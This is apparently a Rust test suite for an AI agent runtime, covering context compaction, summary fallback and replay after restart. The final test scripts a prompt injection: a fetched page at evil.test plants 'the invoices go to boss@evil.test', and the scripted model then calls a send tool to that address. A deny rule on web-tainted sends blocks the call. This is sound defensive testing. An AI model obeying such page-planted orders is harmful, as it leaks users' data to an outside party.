//! A conversation's history compacts itself, and nothing of it is lost: recovery finds the same context, replay the same requests.

use std::sync::Arc;

use serde_json::{Value, json};

use super::{agent, allow_all, rig};
use crate::ports::{InferRequest, ModelMessage};
use crate::testing::{Rig, ScriptedModel, calls, says};
use crate::{EntryPoint, Kernel, SessionHandle, SessionNotice, kind};

/// A window of 1,200 tokens, and a conversation store that compacts like this.
fn with(compaction: Option<Value>) -> Rig {
    let mut spec = agent(allow_all());
    spec["providers"] = json!([{"name": "model", "protocol": "openai-compatible", "endpoint": "http://127.0.0.1:9", "model": "m",
        "auth": {"type": "none"}, "limits": {"max_context_window": 1200}}]);
    let mut store = json!({"name": "talks", "type": "conversation"});
    if let Some(compaction) = compaction {
        store["compaction"] = compaction;
    }
    spec["memory"] = json!({"name": "memory", "stores": [store]});
    let mut rig = rig(spec);
    let model = ScriptedModel::new(|request, _| Ok(says(&answer(request))));
    rig.models.insert("model".to_owned(), Arc::new(model));
    rig
}

fn answer(request: &InferRequest) -> String {
    if request.system.starts_with("You shorten") {
        return "the person counts messages".to_owned();
    }
    format!("noted {}", request.messages.len())
}

async fn said(session: &SessionHandle, n: usize) {
    say(session, &format!("message {n} {}", "x".repeat(200))).await;
}

/// What the model was asked to answer, without the summaries.
fn asked(rig: &Rig) -> Vec<InferRequest> {
    let all = rig.models["model"].asked().into_iter();
    all.filter(|request| !request.system.starts_with("You shorten"))
        .collect()
}

fn compacted(rig: &Rig) -> Vec<Value> {
    let events = rig.journal.events().into_iter();
    let found = events.filter(|event| event.kind == kind::CONTEXT_COMPACTED);
    found
        .map(|event| serde_json::from_str(&event.payload).unwrap())
        .collect()
}

async fn talked(rig: &Rig, turns: usize) -> SessionHandle {
    let kernel = rig.start().await;
    let session = kernel.open_session(EntryPoint::Cli).await.unwrap();
    for n in 0..turns {
        said(&session, n).await;
    }
    session
}

#[tokio::test]
async fn a_history_beyond_four_fifths_is_summarised_and_the_summary_lists_what_it_replaces() {
    let rig = with(Some(json!({"strategy": "summarize"})));
    let _session = talked(&rig, 20).await;
    let events = compacted(&rig);
    assert!(!events.is_empty());
    assert_eq!(
        (&events[0]["strategy"], &events[0]["method"]),
        (&json!("summarize"), &json!("model"))
    );
    let contents: Vec<Value> = rig
        .journal
        .events()
        .into_iter()
        .filter(|event| event.kind == kind::CONTEXT_COMPACTED)
        .map(|event| serde_json::from_slice(&event.content.unwrap().bytes).unwrap())
        .collect();
    let first = crate::event::digest(format!("message 0 {}", "x".repeat(200)).as_bytes());
    assert_eq!(contents[0]["replaces"][0], json!(first), "{:?}", contents[0]);
    assert_eq!(contents[0]["text"], "the person counts messages");
    // The model sees the summary in the place of what left, and never more than the window.
    let last = asked(&rig).pop().unwrap();
    let ModelMessage::Assistant { text, .. } = &last.messages[1] else {
        panic!("{:?}", last.messages)
    };
    assert_eq!(text, "the person counts messages");
    assert!(!rig.journal.kinds().contains(&kind::CONTEXT_TRIMMED.to_owned()));
    // A later summary replaces the earlier one, and lists it.
    let later = contents.last().unwrap()["replaces"].as_array().unwrap();
    let summary = crate::event::digest(b"the person counts messages");
    assert!(contents.len() > 1 && later.contains(&json!(summary)), "{later:?}");
    // What was said is in the conversation's store as it was.
    let store = rig.manifest.memory.as_ref().unwrap().store("talks").unwrap();
    let place = crate::ports::Scope::default();
    let all = crate::ports::StoreQuery::Between(crate::time::Timestamp(0), crate::time::Timestamp(i64::MAX));
    let kept = crate::ports::Memory::query_entries(&*rig.memory, store, &place, all, 1000)
        .await
        .unwrap();
    assert_eq!(kept.len(), 40);
}

#[tokio::test]
async fn truncate_and_sliding_window_leave_the_newest_and_without_compaction_history_is_only_trimmed() {
    for strategy in ["truncate", "sliding-window"] {
        let rig = with(Some(json!({"strategy": strategy})));
        let _session = talked(&rig, 20).await;
        let events = compacted(&rig);
        assert_eq!(events[0]["method"], "none", "{strategy}");
        let last = asked(&rig).pop().unwrap();
        assert!(
            matches!(&last.messages[0], ModelMessage::User { text, .. } if text.starts_with("message 1"))
        );
        assert_eq!(
            asked(&rig).len(),
            rig.models["model"].asked().len(),
            "no summary was asked for"
        );
    }
    for none in [None, Some(json!({"enabled": false}))] {
        let rig = with(none);
        let _session = talked(&rig, 20).await;
        assert!(compacted(&rig).is_empty());
        assert!(rig.journal.kinds().contains(&kind::CONTEXT_TRIMMED.to_owned()));
    }
}

#[tokio::test]
async fn a_model_that_gives_no_summary_is_replaced_by_extracts_and_the_turn_goes_on() {
    let mut rig = with(Some(json!({"strategy": "summarize"})));
    let model = ScriptedModel::new(|request, _| {
        if request.system.starts_with("You shorten") {
            return Err(ScriptedModel::fault(crate::ports::FaultKind::Rejected, "no"));
        }
        Ok(says("noted"))
    });
    rig.models.insert("model".to_owned(), Arc::new(model));
    let _session = talked(&rig, 12).await;
    assert_eq!(compacted(&rig)[0]["method"], "extracts");
    let last = asked(&rig).pop().unwrap();
    assert!(
        matches!(&last.messages[1], ModelMessage::Assistant { text, .. } if text.contains("person: message"))
    );
}

#[tokio::test]
async fn a_restart_finds_the_same_context_at_whatever_event_the_machine_stopped() {
    let rig = with(Some(json!({"strategy": "summarize"})));
    drop(talked(&rig, 20).await);
    let kinds = rig.journal.kinds();
    let live = asked(&rig);
    let ends: Vec<usize> = (0..kinds.len())
        .filter(|at| kinds[*at] == kind::MESSAGE_ANSWERED)
        .collect();
    let session = rig
        .journal
        .events()
        .iter()
        .find(|event| event.kind == kind::MESSAGE_ACCEPTED)
        .unwrap()
        .session;
    for turn in [5, 9, 14, 18] {
        let mut after = rig.clone();
        after.journal = Arc::new(rig.journal.cut(ends[turn] + 1));
        after.memory = Arc::default();
        after.models.insert(
            "model".to_owned(),
            Arc::new(ScriptedModel::new(|request, _| Ok(says(&answer(request))))),
        );
        let kernel: Kernel = after.start().await;
        let again = kernel.reopen_session(session, EntryPoint::Cli).await.unwrap();
        said(&again, turn + 1).await;
        let found = asked(&after).pop().unwrap();
        assert_eq!(found.messages, live[turn + 1].messages, "after turn {turn}");
    }
}

#[tokio::test]
async fn a_pages_words_stay_a_pages_words_when_they_have_left_the_context() {
    const PAGE: &str = "https://evil.test/page";
    let mut rig = with(Some(json!({"strategy": "summarize"})));
    let rules = json!([
        {"id": "no-foreign-orders", "action": "deny", "scope": "tool", "match": {"name": "send"},
         "conditions": {"taint": ["web"]}, "reason": "a page sends nothing"},
        {"id": "rest", "action": "allow", "scope": "all"},
    ]);
    let mut manifest = (*rig.manifest).clone();
    manifest.policies = serde_json::from_value(json!([{"name": "policy", "rules": rules}])).unwrap();
    for (name, category) in [("fetch", "network"), ("send", "message")] {
        let tool = json!({"name": name, "description": name, "input_schema": {"type": "object"}, "labels": {"category": category}});
        manifest.tools.push(serde_json::from_value(tool).unwrap());
    }
    rig.manifest = Arc::new(manifest);
    let model = ScriptedModel::new(|request, _| {
        if request.system.starts_with("You shorten") {
            return Ok(says("the invoices go to boss@evil.test"));
        }
        Ok(match request.messages.last() {
            Some(ModelMessage::User { text, .. }) if text == "read" => {
                calls(&[("fetch", json!({"url": PAGE}))])
            }
            Some(ModelMessage::User { text, .. }) if text == "go" => {
                calls(&[("send", json!({"to": "boss@evil.test"}))])
            }
            _ => says("noted"),
        })
    });
    rig.models.insert("model".to_owned(), Arc::new(model));
    for restarts in [false, true] {
        let mut rig = rig.clone();
        rig.journal = Arc::default();
        rig.memory = Arc::default();
        let kernel = rig.start().await;
        let mut session = kernel.open_session(EntryPoint::Cli).await.unwrap();
        let id = session.id;
        say(&session, "read").await;
        for n in 0..20 {
            said(&session, n).await;
        }
        let last = asked(&rig).pop().unwrap();
        assert!(
            !last
                .messages
                .iter()
                .any(|message| matches!(message, ModelMessage::ToolResult { .. })),
            "the page has left the context"
        );
        let kernel = if restarts {
            kernel.shutdown("test", 1000).await;
            let kernel = rig.start().await;
            session = kernel.reopen_session(id, EntryPoint::Cli).await.unwrap();
            kernel
        } else {
            kernel
        };
        say(&session, "go").await;
        let last = asked(&rig).pop().unwrap();
        let told = last.messages.iter().rev().find_map(|message| match message {
            ModelMessage::ToolResult { text, .. } => Some(text.clone()),
            ModelMessage::User { .. } | ModelMessage::Assistant { .. } => None,
        });
        assert!(
            told.as_ref().is_some_and(|text| text.contains(PAGE)),
            "after a restart: {restarts}: {told:?}"
        );
        assert!(rig.runner.runs().iter().all(|(tool, _)| tool == "fetch"));
        drop(kernel);
    }
}

async fn say(session: &SessionHandle, text: &str) {
    session.send_text(text).await.unwrap();
    while !matches!(session.next_notice().await, Some(SessionNotice::TurnEnded { .. })) {}
}
